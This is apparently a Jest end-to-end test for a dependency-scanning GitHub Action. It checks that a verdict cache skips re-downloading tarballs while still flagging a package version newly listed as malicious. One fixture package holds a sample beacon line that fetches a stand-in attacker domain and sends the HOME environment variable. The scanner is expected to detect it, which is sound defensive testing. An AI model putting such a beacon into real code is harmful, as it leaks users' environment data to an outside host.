// End to end for the verdict cache: the bundled Action runs a full scan twice over a repository
// whose lockfile pins packages served by the in-process fake registry, with the same RUNNER_TEMP
// (the Actions cache restores the verdict folder there on a real runner). The second run must
// read no tarball, as the registry's request log shows, and must still report a version that a
// feed entry added in between marks malicious: package-version entries are checked every run.
//
// Skipped until src/scan.ts and src/main.ts are wired to src/cache/ (see the lead's wiring
// notes for issue 6, item 6): remove `.skip` once `mode: full` uses the verdict cache.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startFakeRegistry, type FakeRegistry } from '../helpers/fake-registry.js'
import { commitAll, git } from '../helpers/pr-repo.js'
import { runAction } from '../helpers/run-action.js'

const PACKAGES = [
  {
    name: 'lg-cache-plain',
    versions: [{ version: '1.0.0', files: { 'index.js': 'module.exports = 1\n' } }]
  },
  {
    name: 'lg-cache-beacon',
    versions: [
      {
        version: '2.0.0',
        files: {
          'index.js': "fetch('https://beacon.lg-cache-evil.example/c?d=' + process.env.HOME)\n"
        }
      }
    ]
  },
  {
    name: 'lg-cache-later-bad',
    versions: [{ version: '3.1.0', files: { 'index.js': 'exports.x = 2\n' } }]
  }
]

const feed = (indicators: object[]) => ({
  schema: 1,
  name: 'test feed',
  updated: '2026-11-21',
  indicators
})
const DOMAIN = {
  type: 'domain',
  value: 'lg-cache-evil.example',
  incident: 'test beacon',
  source: 'https://example.test/advisory'
}
const LATER_BAD = {
  type: 'package',
  value: 'lg-cache-later-bad',
  versions: '3.1.0',
  incident: 'test compromise',
  source: 'https://example.test/advisory-2'
}

let registry: FakeRegistry
let repo: string
let runnerTemp: string

beforeAll(async () => {
  registry = await startFakeRegistry(PACKAGES)
  repo = await mkdtemp(join(tmpdir(), 'lockgate-full-cache-'))
  runnerTemp = await mkdtemp(join(tmpdir(), 'lockgate-full-cache-runner-'))
  await git(repo, ['init', '-q', '-b', 'main'])
  await writeFile(join(repo, '.npmrc'), `registry=${registry.url}\n`)
  await writeLockfile(repo)
  await mkdir(join(repo, '.github'), { recursive: true })
  await writeFeed([DOMAIN])
  await commitAll(repo, 'lock three packages')
})
afterAll(async () => {
  await registry.close()
  await rm(repo, { recursive: true, force: true })
  await rm(runnerTemp, { recursive: true, force: true })
})

async function writeFeed(indicators: object[]): Promise<void> {
  await writeFile(join(repo, '.github', 'feed.json'), JSON.stringify(feed(indicators)))
}

async function writeLockfile(dir: string): Promise<void> {
  const dependencies = Object.fromEntries(PACKAGES.map((p) => [p.name, p.versions[0].version]))
  const manifest = { name: 'app-under-test', version: '1.0.0', private: true, dependencies }
  const entries = Object.fromEntries(
    PACKAGES.map((p) => {
      const version = p.versions[0].version
      return [
        `node_modules/${p.name}`,
        { version, integrity: registry.integrityOf(p.name, version) }
      ]
    })
  )
  const lockfile = {
    name: 'app-under-test',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: { '': { name: 'app-under-test', version: '1.0.0', dependencies }, ...entries }
  }
  await writeFile(join(dir, 'package.json'), JSON.stringify(manifest, null, 2) + '\n')
  await writeFile(join(dir, 'package-lock.json'), JSON.stringify(lockfile, null, 2) + '\n')
}

/** A scheduled full scan; what it asked the registry for comes from the request log. */
async function fullScan() {
  // pacote's own tarball cache must not hide a download: only the verdict folder is carried over
  await rm(join(runnerTemp, 'lockgate-cache'), { recursive: true, force: true })
  const before = registry.requests.length
  const run = await runAction({
    workspace: repo,
    eventName: 'schedule',
    event: { schedule: '0 3 * * *' },
    inputs: { mode: 'full', 'ioc-feeds': '.github/feed.json' },
    env: {
      RUNNER_TEMP: runnerTemp,
      NPM_CONFIG_USERCONFIG: join(repo, '.npmrc'),
      // no cache service in tests: the folder stays in RUNNER_TEMP between the two runs
      ACTIONS_RUNTIME_TOKEN: ''
    }
  })
  const requests = registry.requests.slice(before)
  const report = JSON.parse(await readFile(run.outputs.report, 'utf8'))
  const findings = report.findings as {
    ruleId: string
    package: { name: string }
    location: { line: number }
  }[]
  return {
    run,
    report,
    findings,
    tarballs: requests.filter((path) => path.endsWith('.tgz')),
    requests
  }
}

const keyOf = (f: { ruleId: string; package: { name: string }; location: { line: number } }) =>
  `${f.ruleId} ${f.package.name} ${f.location.line}`

describe('a full scan with the verdict cache', () => {
  it('reads no tarball on the second run and still reports a newly listed malicious version', async () => {
    const first = await fullScan()
    expect(first.report.mode).toBe('full')
    expect(first.tarballs.sort()).toEqual([
      '/lg-cache-beacon/-/lg-cache-beacon-2.0.0.tgz',
      '/lg-cache-later-bad/-/lg-cache-later-bad-3.1.0.tgz',
      '/lg-cache-plain/-/lg-cache-plain-1.0.0.tgz'
    ])
    expect(first.findings).toContainEqual(
      expect.objectContaining({
        ruleId: 'ioc/indicator-in-code',
        package: expect.objectContaining({ name: 'lg-cache-beacon' })
      })
    )
    expect(await readdir(join(runnerTemp, 'lockgate-verdicts'))).toHaveLength(3)

    // the feed gains a package-version entry only: no tarball verdict is invalidated
    await writeFeed([DOMAIN, LATER_BAD])
    const second = await fullScan()
    expect(second.tarballs).toEqual([])
    // packuments are still read: the metadata rules run on every scan
    expect(second.requests).toEqual(expect.arrayContaining(PACKAGES.map((p) => `/${p.name}`)))
    // the cached tarball finding is replayed at the same place
    const replayed = second.findings.filter((f) => f.ruleId === 'ioc/indicator-in-code').map(keyOf)
    expect(replayed).toEqual(
      first.findings.filter((f) => f.ruleId === 'ioc/indicator-in-code').map(keyOf)
    )
    // and the version newly listed as malicious is reported, failing the gate
    expect(second.findings).toContainEqual(
      expect.objectContaining({
        ruleId: 'ioc/known-malicious-version',
        package: expect.objectContaining({ name: 'lg-cache-later-bad' })
      })
    )
    expect(first.findings.map((f) => f.ruleId)).not.toContain('ioc/known-malicious-version')
    expect(second.run.exitCode).toBe(1)
  }, 60_000)
})
